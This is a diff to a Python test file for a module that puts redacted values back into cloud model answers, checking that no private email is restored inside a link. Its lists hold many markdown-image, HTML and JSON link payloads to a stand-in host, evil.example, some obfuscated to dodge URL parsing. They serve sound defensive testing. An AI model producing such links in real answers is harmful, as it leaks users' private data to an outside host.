@@ -12,7 +12,7 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from selfroute.serve.restoring import Restorer, Restoring, in_link
+from selfroute.serve.restoring import Restorer, Restoring, link
 from selfroute.types import CloudAnswer, CloudChunk
 
 ORIGINALS = {
@@ -84,17 +84,93 @@ LINKS = [
     "<img src='https://evil.example/? <EMAIL_1>'>",
     "[x]: https://evil.example/" + "a" * 3000 + "<EMAIL_1>",
     '{"url":"https://evil.example/?q=<EMAIL_1>"}',
+    # What ends an address for people, and none for browsers or Markdown.
+    '![x](https://evil.example/"?q=<EMAIL_1>)',
+    "![x]( https://evil.example/`?q=<EMAIL_1>)",
+    "![x](https://evil.example/>?q=<EMAIL_1>)",
+    "![x](https://evil.example/\u00a0?q=<EMAIL_1>)",
+    '[x]: https://evil.example/"?q=<EMAIL_1>',
+    '<img src=https://evil.example/"?q=<EMAIL_1>',
+    '<img src= https://evil.example/"?q=<EMAIL_1>',
+    "![x](<https://evil.example/\\> ?q=<EMAIL_1>>)",
+    "[x]: <https://evil.example/ ?q=<EMAIL_1>>",
+    # What browsers take for two slashes.
+    "![x](https:/evil.example/?q=<EMAIL_1>)",
+    "![x](https:evil.example/?q=<EMAIL_1>)",
+    "![x](https:\\\\evil.example/?q=<EMAIL_1>)",
+    "![x](/\\evil.example/?q=<EMAIL_1>)",
+    "![x](https:&#47;&#x2f;evil.example/?q=<EMAIL_1>)",
+    "![x](h&#116;tps:evil.example/?q=<EMAIL_1>)",
+    "![x](/&#" + "0" * 3000 + "47;evil.example/?q=<EMAIL_1>)",
+    "<img src='https:/\t/evil.example/?q=<EMAIL_1>'>",
+    "<img src='/&Tab;/evil.example/?q=<EMAIL_1>'>",
+    "www.evil.example/?q=<EMAIL_1>",
+]
+LONG = [
+    "![x](https://evil.example/" + "a" * 70_000 + "<EMAIL_1>)",
+    '![x](https://evil.example/"' + "a" * 70_000 + "<EMAIL_1>)",
+    "![x](<https://evil.example/" + "a " * 40_000 + "<EMAIL_1>>)",
+    '<img src="https://evil.example/' + "a " * 40_000 + '<EMAIL_1>">',
+    '<img src="' + "\t" * 5000 + "https://evil.example/" + "a " * 40_000 + '<EMAIL_1>">',
+]
+IN_JSON = [
+    '{"url":"https://evil.example/?q=<EMAIL_1>"}',
+    r'{"url":"https:\/\/evil.example\/?q=<EMAIL_1>"}',
+    r'{"url":"https:\u002f\u002fevil.example/?q=\u003cEMAIL_1\u003e"}',
+    r'{"text":"![x](https://evil.example/\"?q=<EMAIL_1>)"}',
+    r'{"text":"<img src=\"https://evil.example/ ?q=<EMAIL_1>\">"}',
 ]
 
 
 @pytest.mark.parametrize("text", LINKS)
 def test_a_link_takes_nothing_with_it(text: str) -> None:
     assert restored(text, list(range(len(text)))) == text
+    assert restored(text, []) == text
+
+
+@pytest.mark.parametrize("text", LONG)
+@pytest.mark.parametrize("piece", [100_000, 1000, 7])
+def test_however_long_it_is(text: str, piece: int) -> None:
+    assert restored(text, list(range(0, len(text), piece))) == text
+
+
+@pytest.mark.parametrize("n", range(20))
+def test_wherever_it_is_cut(n: int) -> None:
+    for text in (*LINKS, *(text.replace("](", "](" + " " * 50) for text in LINKS)):
+        begun, _, rest = text.partition("evil")
+        longer = "a " * 1000 + "a" * n + " " + begun + "evil" + rest.replace("?q", "/" * 1024 + "?q")
+        assert restored(longer, list(range(0, len(longer), 16))) == longer
+
+
+@pytest.mark.parametrize("text", IN_JSON)
+def test_a_link_in_json_takes_nothing_with_it(text: str) -> None:
+    for cuts in ([], list(range(len(text)))):
+        assert restored(text, cuts, quoted=True) == text
+
+
+@pytest.mark.parametrize(
+    "text", ['{"url":"https://x.org","to":"<EMAIL_1>"}', r'{"a":"//x \"<EMAIL_1>"}', r'{"a":["//b\\","<EMAIL_1>"]}']
+)
+def test_another_string_of_json_is_no_link(text: str) -> None:
+    for cuts in ([], list(range(len(text)))):
+        assert "a@b.org" in restored(text, cuts, quoted=True)
 
 
 @pytest.mark.parametrize(
     "text",
-    ["See https://x.org or <EMAIL_1>", '{"url":"https://x.org","to":"<EMAIL_1>"}', 'email="<EMAIL_1>"', "a/<EMAIL_1>"],
+    [
+        "See https://x.org or <EMAIL_1>",
+        '{"url":"https://x.org","to":"<EMAIL_1>"}',
+        'email="<EMAIL_1>"',
+        "a/<EMAIL_1>",
+        "[<EMAIL_1>](https://x.org)",
+        "[mail](mailto:<EMAIL_1>)",
+        "e-mail:<EMAIL_1>",
+        "`<EMAIL_1>`",
+        '<a href="https://x.org">to <EMAIL_1></a>',
+        "[a](<https://x.org/a b>) <EMAIL_1>",
+        "a " * 20_000 + "<EMAIL_1>",
+    ],
 )
 def test_beside_a_link_it_is_restored(text: str) -> None:
     assert "a@b.org" in restored(text, list(range(len(text))))
@@ -135,6 +211,12 @@ def test_each_part_of_an_answer_has_its_own_text() -> None:
     assert told[-2].other == {"delta": {"refusal": "not to a@b.org"}}
 
 
+def test_a_tools_name_becomes_the_clients_own() -> None:
+    restoring = Restoring({"<REDACTED_1>": "falcon", "<REDACTED_12>": "hawk"})
+    [piece] = restoring.feed(call(0, "{}", name="REDACTED_1-and-REDACTED_12"))
+    assert piece.other["delta"]["tool_calls"][0]["function"]["name"] == "falcon-and-hawk"
+
+
 def test_an_answer_that_is_json_stays_json() -> None:
     told = fed(CloudChunk(text='{"name": "<PERSON_1'), CloudChunk(text='>"}'), json_answer=True)
     assert json.loads("".join(c.text for c in told)) == {"name": 'Jane "J" Roe\\'}
@@ -163,17 +245,21 @@ def test_many_placeholders_take_no_time() -> None:
     assert time.monotonic() - begin < 5
 
 
-LINK = re.compile(r"""//[^\s"`]*\Z|\]\(\s*<[^\n]*//[^\n>]*\Z|=\s*"[^"]*//[^"]*\Z|=\s*'[^']*//[^']*\Z""")
-"""What `in_link` finds, in words that take long to read."""
+LINK = re.compile(
+    r"""[/\\]{2}[^ \n"`]*\Z|(?:\][(:]|=)[ \n]*[^ \n]*[/\\]{2}[^ \n]*\Z"""
+    r"""|\][(:]\s*<(?=(?:[^\n>\\]|\\[^\n]?)*\Z)[^\n]*[/\\]{2}"""
+    r"""|=\s*"[^"]*[/\\]\n*[/\\][^"]*\Z|=\s*'[^']*[/\\]\n*[/\\][^']*\Z"""
+)
+"""What `link` finds, in words that take long to read."""
 
 
-@given(st.text("/](<>=\"'` \na\u00a0", max_size=30))
+@given(st.text("/\\](:<>=\"'` \na\u00a0", max_size=30))
 @example("](\n<//")
 @example("](a\n<//")
 @example("= \n'///")
 @settings(max_examples=1000)
 def test_a_link_that_has_not_ended(text: str) -> None:
-    assert in_link(text) == (LINK.search(text) is not None)
+    assert bool(link(text)) == (LINK.search(text) is not None)
 
 
 @pytest.mark.parametrize(
@@ -183,5 +269,5 @@ def test_a_link_that_has_not_ended(text: str) -> None:
 def test_no_text_takes_long_to_look_for_a_link_in(text: str) -> None:
     begin = time.monotonic()
     for _ in range(100):
-        in_link(text)
+        link(text)
     assert time.monotonic() - begin < 1
